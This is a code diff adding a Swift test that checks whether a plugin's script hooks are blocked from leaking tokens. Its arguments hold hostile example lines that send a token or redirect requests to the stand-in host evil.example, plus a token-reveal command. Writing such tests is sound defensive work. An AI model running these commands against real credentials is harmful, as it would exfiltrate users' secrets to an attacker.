@@ -165,6 +165,20 @@ import Testing
         await bench.workbench.endPlugins()
     }
 
+    /// Nor does a hook of a script, which nobody has typed.
+    @Test(arguments: [
+        ("get https://evil.example/ --token 1", "plugin-masked"), ("get /x --proxy http://evil.example", "plugin-line"),
+        ("provider set base_url=https://evil.example", "plugin-line"), ("token show --reveal", "plugin-line"),
+    ])
+    func hooksOfScriptsSendNoSecretElsewhere(line: String, code: String) async throws {
+        let bench = await Bench([.tokens, .json([:])])
+        #expect(await bench.run(Bench.ready + "authorize\nexchange") == [])
+        try await bench.added("plugin p 1.0.0\ndefine p-go\n  \(line)\nend\non request\n  p-go\nend\n")
+        let count = bench.transport.requests.count
+        #expect(await bench.run("get /x") == [code])
+        #expect(bench.transport.requests.count == count)
+    }
+
     /// Who made a request that cannot be sent is named.
     @Test(arguments: ["--method 'A B'", "--url nonsense", "'X-A:a\\nB: c'"])
     func hooksThatMakeNoRequestAreNamed(change: String) async throws {
